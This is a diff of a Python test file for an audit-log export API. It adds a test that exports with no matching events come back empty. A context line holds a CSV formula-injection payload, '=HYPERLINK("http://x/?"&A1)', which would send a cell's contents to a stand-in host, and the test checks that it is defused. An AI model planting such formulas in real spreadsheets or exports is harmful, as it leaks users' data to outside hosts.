@@ -369,3 +369,15 @@ def test_csv_export_defuses_cells_a_spreadsheet_would_run(api: ApiClient) -> Non
     [row] = list(csv.DictReader(io.StringIO(body)))
     assert row["patient_id"] == "'+1-555"
     assert json.loads(row["data"])["business_key"] == '=HYPERLINK("http://x/?"&A1)'  # JSON cells start with {
+
+
+def test_an_export_that_matches_no_event_is_an_empty_file(api: ApiClient) -> None:
+    """JSON Lines and FHIR NDJSON of no event are empty (CSV keeps its header); found by schemathesis as a 500."""
+    auditor = api.user("auditor")
+    for fmt, body in (("jsonl", ""), ("fhir", ""), ("csv", None)):
+        response = api.get("/api/audit/export", auditor, params={"format": fmt, "user": "nobody-did-this"})
+        assert response.status_code == 200, (fmt, response.text)
+        if body is not None:
+            assert response.text == body, fmt
+        else:
+            assert response.text.splitlines()[0].startswith("id,")
